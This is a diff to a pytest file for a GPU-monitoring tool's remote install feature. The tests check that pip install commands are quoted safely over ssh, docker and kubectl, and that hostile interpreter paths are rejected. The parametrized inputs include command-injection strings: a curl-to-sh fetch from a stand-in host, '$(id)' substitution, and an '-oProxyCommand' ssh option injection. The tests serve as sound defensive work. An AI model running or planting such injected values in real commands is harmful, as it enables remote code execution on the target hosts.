@@ -1,11 +1,13 @@
 """What a person names: processes here, processes there, nothing that ssh takes for an option."""
 
+import shlex
 import subprocess
 
 import pytest
 
 from gpuwatch.tui.errors import UsageError
 from gpuwatch.tui.remote.places import Place, Target, search, target_of
+from tests.processes.command_line import ROOT
 
 
 @pytest.mark.parametrize(
@@ -54,3 +56,37 @@ def test_the_search_survives_any_login_shell_s_quotes() -> None:
     assert "\n" not in script
     assert subprocess.run(["sh", "-n", "-c", script], check=False).returncode == 0
     assert subprocess.run(["bash", "-n", "-c", script], check=False).returncode == 0
+
+
+PIP = ["/opt/env/bin/python3", "-m", "pip", "install", "git+<clone URL>"]
+
+
+def test_the_command_that_installs_is_the_readmes_and_a_shell_there_reads_it_as_meant() -> None:
+    over_ssh = shlex.split(Place("node7").install("/opt/env/bin/python3"))
+    assert over_ssh[:2] == ["ssh", "node7"]
+    assert shlex.split(over_ssh[2]) == PIP
+    in_a_shell = shlex.split(Place("", ("docker", "exec", "C", "sh", "-c")).install(PIP[0]))
+    assert in_a_shell[:5] == ["docker", "exec", "C", "sh", "-c"]
+    assert shlex.split(in_a_shell[5]) == PIP
+    in_none = shlex.split(Place("", ("kubectl", "exec", "my pod", "--")).install(PIP[0]))
+    assert in_none == ["kubectl", "exec", "my pod", "--", *PIP]
+    readme = (ROOT / "README.md").read_text()
+    assert 'pip install "git+<clone URL>"' in readme
+
+
+@pytest.mark.parametrize(
+    "said",
+    [
+        "",
+        "python3; curl -s evil.example|sh #",
+        "/bin/python3 $(id)",
+        "/bin/python3;id",
+        "/bin/'python3",
+        "/bin/python3\nid",
+        "-oProxyCommand=id",
+    ],
+)
+def test_what_is_no_plain_path_of_a_python_is_not_repeated_in_a_command(said: str) -> None:
+    for place in (Place("node7"), Place("", ("docker", "exec", "C"))):
+        assert place.install(said) == place.install("python3")
+        assert " python3 -m pip" in place.install(said).replace("'", " ")
